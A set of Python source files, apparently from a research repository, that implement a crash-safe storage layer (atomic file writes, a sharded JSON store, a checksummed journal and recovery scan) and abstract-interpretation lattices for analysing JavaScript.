(:mod:`repro.service.queue`) is built on per-shard :class:`Journal`
files plus a fsync'd :class:`JsonStore` for committed results.
"""

from repro.store.atomic import (
    atomic_write_bytes,
    atomic_write_json,
    atomic_write_text,
    fsync_dir,
)
from repro.store.fsck import FsckReport, fsck_store
from repro.store.journal import Journal, JournalReplay
from repro.store.kv import JsonStore

__all__ = [
    "FsckReport",
    "Journal",
    "JournalReplay",
    "JsonStore",
    "atomic_write_bytes",
    "atomic_write_json",
    "atomic_write_text",
    "fsck_store",
    "fsync_dir",
]
