"""``JsonStore``: a crash-consistent key → JSON-document store.

The shape every durable map in the pipeline needs: atomic publishes
(:mod:`repro.store.atomic`), corrupt-entry quarantine (an entry that no
longer decodes is renamed to ``<key>.corrupt`` so it can be inspected
but never masquerades as a hit *or* a miss again), optional sharded
layout (two-hex-char subdirectories keep any one directory small at
100k-entry scale), and an optional LRU size bound (reads refresh an
entry's mtime; overflowing puts evict the stalest entries) so caches
survive store-scale catalogs without growing unbounded.

Failure policy follows the batch cache's precedent: a store that cannot
be written (read-only directory, full disk) degrades to a pass-through
— callers never fail because persistence did. Reads distinguish
*absent* (a plain miss) from *corrupt* (quarantined, reported to the
caller via :meth:`JsonStore.load`'s second return).
"""

from __future__ import annotations

import json
import os
import zlib
from pathlib import Path

from repro.store.atomic import atomic_write_bytes


class JsonStore:
    """A directory of ``<key>.json`` documents with atomic publishes.

    ``shards <= 1`` keeps the historical flat layout (entries directly
    in ``directory`` — the batch cache's on-disk format); larger values
    spread entries over ``shards`` two-hex-char subdirectories.

    ``max_entries`` bounds the store: a put that would overflow evicts
    the least-recently-used entries (by mtime; gets touch it) down to
    the bound. ``None`` = unbounded.

    ``fsync`` trades durability for speed: caches run without it (a
    crash may lose recent entries but can never tear one), stores of
    record (committed service results) run with it.
    """

    def __init__(
        self,
        directory: str | os.PathLike,
        *,
        shards: int = 1,
        max_entries: int | None = None,
        fsync: bool = False,
        touch_on_get: bool = True,
    ) -> None:
        if max_entries is not None and max_entries < 1:
            raise ValueError("max_entries must be positive or None")
        self.directory = Path(directory)
        self.shards = max(1, shards)
        self.max_entries = max_entries
        self.fsync = fsync
        self.touch_on_get = touch_on_get
        #: Lazily-initialized entry count (maintained across puts and
        #: evictions once a scan has established it).
        self._count: int | None = None

    # -- layout --------------------------------------------------------

    def path_of(self, key: str) -> Path:
        """Where ``key``'s document lives (keys must be path-safe; the
        callers all use hex digests or pre-slugged names)."""
        if self.shards <= 1:
            return self.directory / f"{key}.json"
        shard = zlib.crc32(key.encode("utf-8")) % self.shards
        return self.directory / format(shard, "02x") / f"{key}.json"

    def _entries(self) -> list[Path]:
        pattern = "*.json" if self.shards <= 1 else "*/*.json"
        try:
            return list(self.directory.glob(pattern))
        except OSError:
            return []

    # -- reads ---------------------------------------------------------

    def load(self, key: str) -> tuple[dict | None, bool]:
        """Load one document: ``(doc, quarantined)``.

        Absent (or unreadable) is ``(None, False)`` — a plain miss. An
        entry that reads but does not decode to a JSON object is
        corrupt: it is renamed to ``<key>.corrupt`` and reported as
        ``(None, True)``.
        """
        path = self.path_of(key)
        try:
            text = path.read_text(encoding="utf-8")
        except OSError:
            return None, False
        try:
            doc = json.loads(text)
            if not isinstance(doc, dict):
                raise ValueError("non-object document")
        except Exception:
            try:
                path.rename(path.with_suffix(".corrupt"))
                if self._count is not None:
                    self._count = max(0, self._count - 1)
            except OSError:
                pass  # a read-only store cannot quarantine; still a miss
            return None, True
        if self.touch_on_get:
            try:
                os.utime(path)  # refresh LRU recency
            except OSError:
                pass
        return doc, False

    def get(self, key: str) -> dict | None:
        doc, _ = self.load(key)
        return doc

    def keys(self) -> list[str]:
        return sorted(path.name[: -len(".json")] for path in self._entries())

    def __len__(self) -> int:
        if self._count is None:
            self._count = len(self._entries())
        return self._count

    # -- writes --------------------------------------------------------

    def put(self, key: str, doc: dict) -> None:
        """Atomically publish ``doc`` under ``key`` (evicting LRU
        entries first when the bound would overflow). Best-effort: a
        read-only or full store must not fail the caller."""
        path = self.path_of(key)
        fresh = not path.exists()
        try:
            if self.max_entries is not None and fresh:
                self._evict_down_to(self.max_entries - 1)
            payload = json.dumps(doc).encode("utf-8")
            atomic_write_bytes(path, payload, fsync=self.fsync)
            if fresh and self._count is not None:
                self._count += 1
        except OSError:
            self._count = None  # eviction may have partially run

    def quarantine(self, key: str) -> bool:
        """Rename ``key``'s entry to ``<key>.corrupt`` (for callers
        whose schema validation is stricter than is-a-JSON-object)."""
        path = self.path_of(key)
        try:
            path.rename(path.with_suffix(".corrupt"))
        except OSError:
            return False
        if self._count is not None:
            self._count = max(0, self._count - 1)
        return True

    def delete(self, key: str) -> bool:
        try:
            self.path_of(key).unlink()
        except OSError:
            return False
        if self._count is not None:
            self._count = max(0, self._count - 1)
        return True

    def _evict_down_to(self, bound: int) -> None:
        if len(self) <= bound:
            return
        stamped = []
        for path in self._entries():
            try:
                stamped.append((path.stat().st_mtime, path))
            except OSError:
                continue
        stamped.sort(key=lambda pair: (pair[0], pair[1].name))
        excess = len(stamped) - bound
        for _, path in stamped[:excess]:
            try:
                path.unlink()
            except OSError:
                continue
        self._count = None  # rescan on next use
