"""The recovery scan: sweep crash debris, quarantine rot, report.

``fsck_store`` is what a restarting service (or an operator) runs over
a store directory before trusting it again:

- **stale tmp files** — strays from a crash between tmp-write and
  rename (recognizably dot-prefixed ``*.tmp``, see
  :mod:`repro.store.atomic`) are deleted: the publish never happened,
  so the bytes are garbage by contract;
- **torn or truncated entries** — ``*.json`` documents that no longer
  decode are renamed to ``*.corrupt`` (same quarantine the live read
  path applies, done eagerly here so a recovered store never serves
  them);
- **journals** — ``*.log`` files are replayed for damage counts and
  their torn tails truncated (:meth:`repro.store.journal.Journal
  .repair`), so the next append starts on a record boundary.

The scan never raises for damage — damage is its *job* — and returns a
:class:`FsckReport` whose counts the service surfaces in its stats (a
recovery that quarantined entries should be visible in monitoring, not
silent).
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, field
from pathlib import Path

from repro.store.atomic import is_tmp_stray
from repro.store.journal import Journal


@dataclass
class FsckReport:
    """What one recovery scan found and repaired."""

    directory: str = ""
    scanned: int = 0
    #: Undecodable ``*.json`` entries renamed to ``*.corrupt``.
    quarantined: list[str] = field(default_factory=list)
    #: Stale in-flight temporaries deleted.
    swept_tmp: list[str] = field(default_factory=list)
    #: Journals whose torn tail was truncated.
    repaired_journals: list[str] = field(default_factory=list)
    #: Corrupt (checksum-failed) journal records skipped, per journal.
    corrupt_journal_records: int = 0

    @property
    def clean(self) -> bool:
        return not (
            self.quarantined
            or self.swept_tmp
            or self.repaired_journals
            or self.corrupt_journal_records
        )

    def to_json(self) -> dict:
        return {
            "directory": self.directory,
            "scanned": self.scanned,
            "clean": self.clean,
            "quarantined": sorted(self.quarantined),
            "swept_tmp": sorted(self.swept_tmp),
            "repaired_journals": sorted(self.repaired_journals),
            "corrupt_journal_records": self.corrupt_journal_records,
        }


def _decodes(path: Path) -> bool:
    try:
        return isinstance(json.loads(path.read_text(encoding="utf-8")), (dict, list))
    except Exception:
        return False


def fsck_store(directory: str | os.PathLike) -> FsckReport:
    """Recursively scan ``directory``; sweep, quarantine, and repair as
    documented above. Safe on a directory that does not exist."""
    root = Path(directory)
    report = FsckReport(directory=str(root))
    if not root.is_dir():
        return report
    for path in sorted(root.rglob("*")):
        if not path.is_file():
            continue
        relative = str(path.relative_to(root))
        if is_tmp_stray(path):
            try:
                path.unlink()
                report.swept_tmp.append(relative)
            except OSError:
                pass
            continue
        if path.suffix == ".json":
            report.scanned += 1
            if not _decodes(path):
                try:
                    path.rename(path.with_suffix(".corrupt"))
                    report.quarantined.append(relative)
                except OSError:
                    pass
            continue
        if path.suffix == ".log":
            report.scanned += 1
            journal = Journal(path)
            replay = journal.replay()
            report.corrupt_journal_records += replay.corrupt
            if journal.repair():
                report.repaired_journals.append(relative)
    return report
