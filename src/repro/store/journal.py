"""The append-only journal: checksum-framed records, torn-tail repair.

A journal is the durable queue's source of truth: every state change is
one appended record, and a restart replays the records to rebuild the
in-memory state. Appends must therefore be crash-safe in a weaker but
subtler sense than whole-file atomic writes — the file is only ever
*extended*, so the failure mode is a **torn tail**: a SIGKILL or power
cut mid-append leaves a final record that is a prefix of what was
intended. The framing makes that detectable and recoverable:

``<crc32 of payload, 8 hex chars> <payload JSON, one line>\\n``

- a record missing its trailing newline is a torn tail: the append
  never completed, so the state change it described never *happened*
  (the caller's contract is append-then-act) — replay drops it and
  :meth:`Journal.repair` truncates it so later appends start clean;
- a complete line whose checksum or JSON does not verify is a corrupt
  record (bit rot, an interleaved writer, a hostile edit): replay
  counts and skips it rather than crashing, and the journal is still
  usable past it.

Appends are a single buffered ``write`` + ``flush`` + optional
``fsync`` of an ``O_APPEND`` file descriptor, so concurrent appenders
in one process never interleave a record.
"""

from __future__ import annotations

import json
import os
import zlib
from dataclasses import dataclass, field
from pathlib import Path


def _frame(payload: bytes) -> bytes:
    return b"%08x %s\n" % (zlib.crc32(payload) & 0xFFFFFFFF, payload)


def _unframe(line: bytes) -> dict | None:
    """Decode one complete journal line; ``None`` when it does not
    verify (bad framing, bad checksum, bad JSON, non-object payload)."""
    if len(line) < 10 or line[8:9] != b" ":
        return None
    try:
        expected = int(line[:8], 16)
    except ValueError:
        return None
    payload = line[9:]
    if zlib.crc32(payload) & 0xFFFFFFFF != expected:
        return None
    try:
        record = json.loads(payload)
    except ValueError:
        return None
    return record if isinstance(record, dict) else None


@dataclass
class JournalReplay:
    """What a journal replay found: the verified records in append
    order, plus the damage report."""

    records: list[dict] = field(default_factory=list)
    #: Complete lines that failed checksum/JSON verification (skipped).
    corrupt: int = 0
    #: True when the file ended mid-record (SIGKILL mid-append).
    torn_tail: bool = False


class Journal:
    """One append-only journal file."""

    def __init__(self, path: str | os.PathLike, *, fsync: bool = True) -> None:
        self.path = Path(path)
        self.fsync = fsync
        self._handle = None

    # -- writes --------------------------------------------------------

    def append(self, record: dict) -> None:
        """Durably append one record. When this returns, replay is
        guaranteed to surface the record (under ``fsync=True``)."""
        payload = json.dumps(
            record, separators=(",", ":"), sort_keys=True
        ).encode("utf-8")
        if self._handle is None:
            self.path.parent.mkdir(parents=True, exist_ok=True)
            self.repair()
            self._handle = open(self.path, "ab")
        self._handle.write(_frame(payload))
        self._handle.flush()
        if self.fsync:
            os.fsync(self._handle.fileno())

    def close(self) -> None:
        if self._handle is not None:
            self._handle.close()
            self._handle = None

    # -- reads ---------------------------------------------------------

    def replay(self) -> JournalReplay:
        """Read every verifiable record, oldest first, tolerating a
        torn tail and skipping (but counting) corrupt records."""
        replay = JournalReplay()
        try:
            data = self.path.read_bytes()
        except OSError:
            return replay
        if not data:
            return replay
        complete, _, tail = data.rpartition(b"\n")
        replay.torn_tail = bool(tail)
        for line in complete.split(b"\n") if complete else []:
            record = _unframe(line)
            if record is None:
                replay.corrupt += 1
            else:
                replay.records.append(record)
        return replay

    def repair(self) -> bool:
        """Truncate a torn tail so future appends start on a record
        boundary. Returns True when bytes were dropped. Must not be
        called while an append handle is open."""
        try:
            data = self.path.read_bytes()
        except OSError:
            return False
        if not data or data.endswith(b"\n"):
            return False
        complete, _, _ = data.rpartition(b"\n")
        keep = complete + b"\n" if complete else b""
        with open(self.path, "wb") as handle:
            handle.write(keep)
            handle.flush()
            if self.fsync:
                os.fsync(handle.fileno())
        return True

    def compact(self, records: list[dict]) -> None:
        """Atomically rewrite the journal to exactly ``records`` (used
        after replay folds history into a snapshot)."""
        from repro.store.atomic import atomic_write_bytes

        self.close()
        body = b"".join(
            _frame(
                json.dumps(r, separators=(",", ":"), sort_keys=True).encode(
                    "utf-8"
                )
            )
            for r in records
        )
        atomic_write_bytes(self.path, body, fsync=self.fsync)
