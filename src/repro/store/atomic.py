"""Atomic file publication: tmp-file + fsync + rename.

The contract every caller gets: a concurrent or post-crash reader of
``path`` sees either the complete previous contents or the complete new
contents — never a prefix, never interleaved bytes. The recipe is the
classic one:

1. write the new bytes to a temporary file *in the same directory* (so
   the final rename cannot cross a filesystem boundary);
2. flush and ``fsync`` the file so the bytes are durable before the
   name is;
3. ``os.replace`` onto the destination (atomic on POSIX and Windows);
4. ``fsync`` the directory so the rename itself survives a power cut.

``fsync`` is optional (``fsync=False``) for throwaway artifacts like
perf caches where post-crash loss is acceptable but torn reads are
not — the rename alone already guarantees all-or-nothing visibility to
live readers; the syncs only add power-failure durability.

Temporary files are dot-prefixed and ``.tmp``-suffixed so the fsck scan
(:mod:`repro.store.fsck`) can recognize and sweep strays left by a
crash between steps 1 and 3.
"""

from __future__ import annotations

import json
import os
import tempfile
from pathlib import Path

#: The suffix every in-flight temporary file carries; fsck sweeps them.
TMP_SUFFIX = ".tmp"


def fsync_dir(directory: str | os.PathLike) -> None:
    """``fsync`` a directory so a just-renamed entry survives a crash.

    Best-effort: some filesystems (and all of Windows) refuse to open
    directories; those callers still get rename atomicity, just not
    metadata durability, and there is nothing further we can do.
    """
    try:
        fd = os.open(directory, os.O_RDONLY)
    except OSError:
        return
    try:
        os.fsync(fd)
    except OSError:
        pass
    finally:
        os.close(fd)


def atomic_write_bytes(
    path: str | os.PathLike, data: bytes, *, fsync: bool = True
) -> None:
    """Atomically publish ``data`` at ``path`` (parents created)."""
    target = Path(path)
    target.parent.mkdir(parents=True, exist_ok=True)
    fd, tmp_path = tempfile.mkstemp(
        dir=target.parent, prefix=f".{target.name}.", suffix=TMP_SUFFIX
    )
    try:
        with os.fdopen(fd, "wb") as handle:
            handle.write(data)
            if fsync:
                handle.flush()
                os.fsync(handle.fileno())
        os.replace(tmp_path, target)
    except BaseException:
        # Never leave the unfinished temp behind on the failure path;
        # fsck sweeps the SIGKILL case this cleanup cannot reach.
        try:
            os.unlink(tmp_path)
        except OSError:
            pass
        raise
    if fsync:
        fsync_dir(target.parent)


def atomic_write_text(
    path: str | os.PathLike,
    text: str,
    *,
    encoding: str = "utf-8",
    fsync: bool = True,
) -> None:
    """Atomically publish ``text`` at ``path``."""
    atomic_write_bytes(path, text.encode(encoding), fsync=fsync)


def atomic_write_json(
    path: str | os.PathLike,
    payload: object,
    *,
    indent: int | None = 2,
    sort_keys: bool = False,
    fsync: bool = True,
) -> None:
    """Atomically publish ``payload`` as JSON at ``path`` (trailing
    newline included, matching the repo's artifact convention)."""
    text = json.dumps(payload, indent=indent, sort_keys=sort_keys)
    atomic_write_bytes(path, (text + "\n").encode("utf-8"), fsync=fsync)


def is_tmp_stray(path: Path) -> bool:
    """Is ``path`` an in-flight temporary left behind by a crash?"""
    return path.name.startswith(".") and path.name.endswith(TMP_SUFFIX)
