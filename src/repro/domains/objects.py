"""Abstract objects: property maps keyed by abstract strings.

JavaScript property names are computed strings, so an abstract object
stores

- ``properties``: a map from *exact* property names to values, and
- ``unknown``: a single summary value for everything ever written through
  a non-exact (prefix/⊤) property name.

Reads and writes take an abstract property name (:class:`Prefix`); the
strong/weak distinction needed by the paper's read/write sets (a strong
property write = singleton object + exact name) is decided by the caller,
which knows whether the object address is a singleton.

Function values are objects whose ``closures`` set carries the IR
function ids they may call (this is how the control-flow analysis part of
the reduced product is represented); native browser APIs carry a
``native`` tag instead, interpreted by :mod:`repro.browser.stubs`.
"""

from __future__ import annotations

from dataclasses import dataclass, replace

from repro.domains import values as values_domain
from repro.domains.prefix import Prefix
from repro.domains.values import AbstractValue


@dataclass(frozen=True, eq=False)
class AbstractObject:
    """One abstract heap object (immutable).

    Hot-path constructions are *interned* (:func:`interned_object`):
    structurally equal objects become one instance, so heap joins across
    fixpoint rounds hit their identity fast paths instead of re-merging
    equal property maps. The hash is memoized for the intern table."""

    kind: str = "object"  # object | array | function | regex | native
    closures: frozenset[int] = frozenset()
    native: str | None = None
    properties: tuple[tuple[str, AbstractValue], ...] = ()
    unknown: AbstractValue = values_domain.BOTTOM

    def __eq__(self, other) -> bool:
        if self is other:
            return True
        if not isinstance(other, AbstractObject):
            return NotImplemented
        return (
            self.kind == other.kind
            and self.closures == other.closures
            and self.native == other.native
            and self.properties == other.properties
            and self.unknown == other.unknown
        )

    def __hash__(self) -> int:
        try:
            return self._hash  # type: ignore[attr-defined]
        except AttributeError:
            value = hash((
                self.kind, self.closures, self.native,
                self.properties, self.unknown,
            ))
            object.__setattr__(self, "_hash", value)
            return value

    # The tuple encoding keeps the dataclass hashable/immutable; access
    # goes through this cached view. The dict is built once per object
    # and must be treated as read-only (mutating call sites copy it).
    def _props(self) -> dict[str, AbstractValue]:
        try:
            return self._props_cache  # type: ignore[attr-defined]
        except AttributeError:
            cache = dict(self.properties)
            object.__setattr__(self, "_props_cache", cache)
            return cache

    @staticmethod
    def _pack(props: dict[str, AbstractValue]) -> tuple[tuple[str, AbstractValue], ...]:
        return tuple(sorted(props.items()))

    # ------------------------------------------------------------------
    # Lattice

    def leq(self, other: "AbstractObject") -> bool:
        if self.kind != other.kind and other.kind != "object":
            pass  # kinds joined to "object" when they disagree
        mine = self._props()
        theirs = other._props()
        for name, value in mine.items():
            bound = theirs.get(name)
            if bound is None:
                # A property missing on the right is summarized by its
                # unknown value joined with undefined.
                bound = other.unknown.join(values_domain.UNDEF)
            if not value.leq(bound):
                return False
        return (
            self.closures <= other.closures
            and self.unknown.leq(other.unknown)
        )

    def join(self, other: "AbstractObject") -> "AbstractObject":
        if self is other:
            return self
        mine = self._props()
        theirs = other._props()
        merged: dict[str, AbstractValue] = {}
        for name in set(mine) | set(theirs):
            left = mine.get(name)
            right = theirs.get(name)
            if left is None:
                # Present on one side only: may be absent, so join with
                # undefined to record the possible miss.
                merged[name] = right.join(values_domain.UNDEF)  # type: ignore[union-attr]
            elif right is None:
                merged[name] = left.join(values_domain.UNDEF)
            elif left is right:
                merged[name] = left
            else:
                merged[name] = left.join(right)
        kind = self.kind if self.kind == other.kind else "object"
        closures = self.closures | other.closures
        native = self.native if self.native == other.native else None
        properties = self._pack(merged)
        unknown = self.unknown.join(other.unknown)
        # Identity-preserving: joins at state merges almost always leave
        # one side unchanged; reuse it so heap-level `is` checks hold.
        if (
            kind == self.kind
            and closures == self.closures
            and native == self.native
            and unknown is self.unknown
            and properties == self.properties
        ):
            return self
        if (
            kind == other.kind
            and closures == other.closures
            and native == other.native
            and unknown is other.unknown
            and properties == other.properties
        ):
            return other
        return interned_object(AbstractObject(
            kind=kind,
            closures=closures,
            native=native,
            properties=properties,
            unknown=unknown,
        ))

    def widen(self, other: "AbstractObject") -> "AbstractObject":
        """Widening: ``old.widen(joined)`` with ``self ⊑ other`` —
        property values and the unknown summary widen component-wise
        (:meth:`AbstractValue.widen`)."""
        if other is self:
            return self
        mine = self._props()
        theirs = other._props()
        changed = False
        widened: dict[str, AbstractValue] = {}
        for name, value in theirs.items():
            old = mine.get(name)
            if old is None or old is value:
                widened[name] = value
            else:
                result = old.widen(value)
                widened[name] = result
                if result is not value:
                    changed = True
        unknown = other.unknown
        if self.unknown is not unknown:
            unknown = self.unknown.widen(unknown)
            if unknown is not other.unknown:
                changed = True
        if not changed:
            return other
        return interned_object(
            replace(other, properties=self._pack(widened), unknown=unknown)
        )

    # ------------------------------------------------------------------
    # Property access

    def read(self, name: Prefix) -> AbstractValue:
        """Abstract property read. Missing properties yield ``undefined``
        (ES5 semantics), joined with the unknown summary."""
        props = self._props()
        concrete = name.concrete()
        if concrete is not None:
            value = props.get(concrete)
            if value is None:
                return self.unknown.join(values_domain.UNDEF)
            return value.join(self.unknown)
        # Non-exact name: every property it admits, plus the summary,
        # plus undefined (it may name a property that does not exist).
        result = self.unknown.join(values_domain.UNDEF)
        for prop_name, value in props.items():
            if name.admits(prop_name):
                result = result.join(value)
        return result

    def write(self, name: Prefix, value: AbstractValue, strong: bool) -> "AbstractObject":
        """Abstract property write. ``strong`` is only honored for exact
        names (the caller has established the object is a singleton).
        Identity-preserving: a write that changes nothing returns
        ``self``, so heap tries keep sharing their subtrees."""
        props = self._props()
        concrete = name.concrete()
        if concrete is not None:
            old = props.get(concrete)
            if strong:
                if old is value:
                    return self
                new_value = value
            else:
                base = old if old is not None else self.unknown.join(values_domain.UNDEF)
                new_value = base.join(value)
                if new_value is old:
                    return self
            updated = dict(props)
            updated[concrete] = new_value
            return interned_object(replace(self, properties=self._pack(updated)))
        # Non-exact name: the write may hit any admitted existing
        # property (weakly) and anything else (the unknown summary).
        changed = False
        updated = dict(props)
        for prop_name, old in props.items():
            if name.admits(prop_name):
                joined = old.join(value)
                if joined is not old:
                    updated[prop_name] = joined
                    changed = True
        unknown = self.unknown.join(value)
        if not changed and unknown is self.unknown:
            return self
        return interned_object(
            replace(self, properties=self._pack(updated), unknown=unknown)
        )

    def delete(self, name: Prefix, strong: bool) -> "AbstractObject":
        props = self._props()
        concrete = name.concrete()
        if concrete is not None and strong:
            if concrete not in props:
                return self
            updated = dict(props)
            updated.pop(concrete, None)
            return interned_object(replace(self, properties=self._pack(updated)))
        # Weak delete: the property may or may not be removed.
        changed = False
        updated = dict(props)
        for prop_name, old in props.items():
            if name.admits(prop_name):
                joined = old.join(values_domain.UNDEF)
                if joined is not old:
                    updated[prop_name] = joined
                    changed = True
        if not changed:
            return self
        return interned_object(replace(self, properties=self._pack(updated)))

    def property_names(self) -> list[str]:
        return [name for name, _ in self.properties]

    def __str__(self) -> str:
        parts = [self.kind]
        if self.closures:
            parts.append(f"closures={sorted(self.closures)}")
        if self.native:
            parts.append(f"native={self.native}")
        for name, value in self.properties:
            parts.append(f"{name}: {value}")
        if not self.unknown.is_bottom:
            parts.append(f"*: {self.unknown}")
        return "{" + ", ".join(parts) + "}"


#: Hash-consing table; bounded like the value intern table (overflow
#: means new objects stay un-interned — a perf miss, never a result
#: change).
_OBJECT_INTERN: dict[AbstractObject, AbstractObject] = {}
_OBJECT_INTERN_LIMIT = 131_072


def interned_object(obj: AbstractObject) -> AbstractObject:
    """The canonical instance structurally equal to ``obj``."""
    cached = _OBJECT_INTERN.get(obj)
    if cached is not None:
        return cached
    if len(_OBJECT_INTERN) < _OBJECT_INTERN_LIMIT:
        _OBJECT_INTERN[obj] = obj
    return obj


def function_object(*fids: int) -> AbstractObject:
    """A function value that may call any of the given IR functions."""
    return interned_object(AbstractObject(kind="function", closures=frozenset(fids)))


def native_object(tag: str, kind: str = "native") -> AbstractObject:
    """A native browser API object, interpreted by the stub registry."""
    return interned_object(AbstractObject(kind=kind, native=tag))
