"""Abstract objects: property maps keyed by abstract strings.

JavaScript property names are computed strings, so an abstract object
stores

- ``properties``: a map from *exact* property names to values, and
- ``unknown``: a single summary value for everything ever written through
  a non-exact (prefix/⊤) property name.

Reads and writes take an abstract property name (:class:`Prefix`); the
strong/weak distinction needed by the paper's read/write sets (a strong
property write = singleton object + exact name) is decided by the caller,
which knows whether the object address is a singleton.

Function values are objects whose ``closures`` set carries the IR
function ids they may call (this is how the control-flow analysis part of
the reduced product is represented); native browser APIs carry a
``native`` tag instead, interpreted by :mod:`repro.browser.stubs`.
"""

from __future__ import annotations

from dataclasses import dataclass, replace

from repro.domains import values as values_domain
from repro.domains.prefix import Prefix
from repro.domains.values import AbstractValue


@dataclass(frozen=True)
class AbstractObject:
    """One abstract heap object (immutable)."""

    kind: str = "object"  # object | array | function | regex | native
    closures: frozenset[int] = frozenset()
    native: str | None = None
    properties: tuple[tuple[str, AbstractValue], ...] = ()
    unknown: AbstractValue = values_domain.BOTTOM

    # The tuple encoding keeps the dataclass hashable/immutable; access
    # goes through this cached view.
    def _props(self) -> dict[str, AbstractValue]:
        return dict(self.properties)

    @staticmethod
    def _pack(props: dict[str, AbstractValue]) -> tuple[tuple[str, AbstractValue], ...]:
        return tuple(sorted(props.items()))

    # ------------------------------------------------------------------
    # Lattice

    def leq(self, other: "AbstractObject") -> bool:
        if self.kind != other.kind and other.kind != "object":
            pass  # kinds joined to "object" when they disagree
        mine = self._props()
        theirs = other._props()
        for name, value in mine.items():
            bound = theirs.get(name)
            if bound is None:
                # A property missing on the right is summarized by its
                # unknown value joined with undefined.
                bound = other.unknown.join(values_domain.UNDEF)
            if not value.leq(bound):
                return False
        return (
            self.closures <= other.closures
            and self.unknown.leq(other.unknown)
        )

    def join(self, other: "AbstractObject") -> "AbstractObject":
        if self is other:
            return self
        mine = self._props()
        theirs = other._props()
        merged: dict[str, AbstractValue] = {}
        for name in set(mine) | set(theirs):
            left = mine.get(name)
            right = theirs.get(name)
            if left is None:
                # Present on one side only: may be absent, so join with
                # undefined to record the possible miss.
                merged[name] = right.join(values_domain.UNDEF)  # type: ignore[union-attr]
            elif right is None:
                merged[name] = left.join(values_domain.UNDEF)
            elif left is right:
                merged[name] = left
            else:
                merged[name] = left.join(right)
        kind = self.kind if self.kind == other.kind else "object"
        closures = self.closures | other.closures
        native = self.native if self.native == other.native else None
        properties = self._pack(merged)
        unknown = self.unknown.join(other.unknown)
        # Identity-preserving: joins at state merges almost always leave
        # one side unchanged; reuse it so heap-level `is` checks hold.
        if (
            kind == self.kind
            and closures == self.closures
            and native == self.native
            and unknown is self.unknown
            and properties == self.properties
        ):
            return self
        if (
            kind == other.kind
            and closures == other.closures
            and native == other.native
            and unknown is other.unknown
            and properties == other.properties
        ):
            return other
        return AbstractObject(
            kind=kind,
            closures=closures,
            native=native,
            properties=properties,
            unknown=unknown,
        )

    # ------------------------------------------------------------------
    # Property access

    def read(self, name: Prefix) -> AbstractValue:
        """Abstract property read. Missing properties yield ``undefined``
        (ES5 semantics), joined with the unknown summary."""
        props = self._props()
        concrete = name.concrete()
        if concrete is not None:
            value = props.get(concrete)
            if value is None:
                return self.unknown.join(values_domain.UNDEF)
            return value.join(self.unknown)
        # Non-exact name: every property it admits, plus the summary,
        # plus undefined (it may name a property that does not exist).
        result = self.unknown.join(values_domain.UNDEF)
        for prop_name, value in props.items():
            if name.admits(prop_name):
                result = result.join(value)
        return result

    def write(self, name: Prefix, value: AbstractValue, strong: bool) -> "AbstractObject":
        """Abstract property write. ``strong`` is only honored for exact
        names (the caller has established the object is a singleton)."""
        props = self._props()
        concrete = name.concrete()
        if concrete is not None:
            if strong:
                props[concrete] = value
            else:
                old = props.get(concrete, self.unknown.join(values_domain.UNDEF))
                props[concrete] = old.join(value)
            return replace(self, properties=self._pack(props))
        # Non-exact name: the write may hit any admitted existing
        # property (weakly) and anything else (the unknown summary).
        for prop_name in list(props):
            if name.admits(prop_name):
                props[prop_name] = props[prop_name].join(value)
        return replace(
            self,
            properties=self._pack(props),
            unknown=self.unknown.join(value),
        )

    def delete(self, name: Prefix, strong: bool) -> "AbstractObject":
        props = self._props()
        concrete = name.concrete()
        if concrete is not None and strong:
            props.pop(concrete, None)
            return replace(self, properties=self._pack(props))
        # Weak delete: the property may or may not be removed.
        for prop_name in list(props):
            if name.admits(prop_name):
                props[prop_name] = props[prop_name].join(values_domain.UNDEF)
        return replace(self, properties=self._pack(props))

    def property_names(self) -> list[str]:
        return [name for name, _ in self.properties]

    def __str__(self) -> str:
        parts = [self.kind]
        if self.closures:
            parts.append(f"closures={sorted(self.closures)}")
        if self.native:
            parts.append(f"native={self.native}")
        for name, value in self.properties:
            parts.append(f"{name}: {value}")
        if not self.unknown.is_bottom:
            parts.append(f"*: {self.unknown}")
        return "{" + ", ".join(parts) + "}"


def function_object(*fids: int) -> AbstractObject:
    """A function value that may call any of the given IR functions."""
    return AbstractObject(kind="function", closures=frozenset(fids))


def native_object(tag: str, kind: str = "native") -> AbstractObject:
    """A native browser API object, interpreted by the stub registry."""
    return AbstractObject(kind=kind, native=tag)
