"""Four-point boolean lattice: ⊥ ⊑ {true, false} ⊑ ⊤."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class AbstractBool:
    """Encodes which concrete booleans are possible."""

    may_true: bool
    may_false: bool

    @property
    def is_bottom(self) -> bool:
        return not self.may_true and not self.may_false

    @property
    def is_top(self) -> bool:
        return self.may_true and self.may_false

    def concrete(self) -> bool | None:
        """The single concrete boolean this represents, if constant."""
        if self.may_true and not self.may_false:
            return True
        if self.may_false and not self.may_true:
            return False
        return None

    def leq(self, other: "AbstractBool") -> bool:
        return (not self.may_true or other.may_true) and (
            not self.may_false or other.may_false
        )

    def join(self, other: "AbstractBool") -> "AbstractBool":
        may_true = self.may_true or other.may_true
        may_false = self.may_false or other.may_false
        # Identity-preserving: return an existing object when possible so
        # downstream `is` fast paths keep working across joins.
        if may_true == self.may_true and may_false == self.may_false:
            return self
        if may_true == other.may_true and may_false == other.may_false:
            return other
        return AbstractBool(may_true, may_false)

    def meet(self, other: "AbstractBool") -> "AbstractBool":
        return AbstractBool(
            self.may_true and other.may_true, self.may_false and other.may_false
        )

    def negate(self) -> "AbstractBool":
        return AbstractBool(self.may_false, self.may_true)

    def __str__(self) -> str:
        if self.is_bottom:
            return "⊥bool"
        if self.is_top:
            return "⊤bool"
        return str(self.concrete()).lower()


BOTTOM = AbstractBool(False, False)
TRUE = AbstractBool(True, False)
FALSE = AbstractBool(False, True)
TOP = AbstractBool(True, True)


def from_bool(value: bool) -> AbstractBool:
    return TRUE if value else FALSE
