"""The abstract machine state threaded through the interpreter.

A state is a variable environment plus a heap. Variables are identified
by ``(scope_fid, name)`` — the lexical resolution done during lowering —
so the environment is a single flat map. Scope instances are merged
(standard for this style of analysis): a write to a local of the
*currently analyzed* function is strong, a write to a captured outer
local is weak, because other live instances of that frame may exist.

An absent variable entry means "never assigned on this path": globals
read before assignment are ``undefined`` (ES5), locals likewise after
hoisting.

The environment is a persistent map (:mod:`repro.domains.pmap`), so
:meth:`State.copy` is O(1) structure sharing and :meth:`State.join` /
:meth:`State.leq` walk only the subtrees where the two states actually
diverged — states that share an ancestor skip the common bulk entirely.
The ``State`` object itself stays mutable (``write_var`` rebinds the
underlying map), preserving the interpreter's copy-then-mutate calling
convention unchanged.
"""

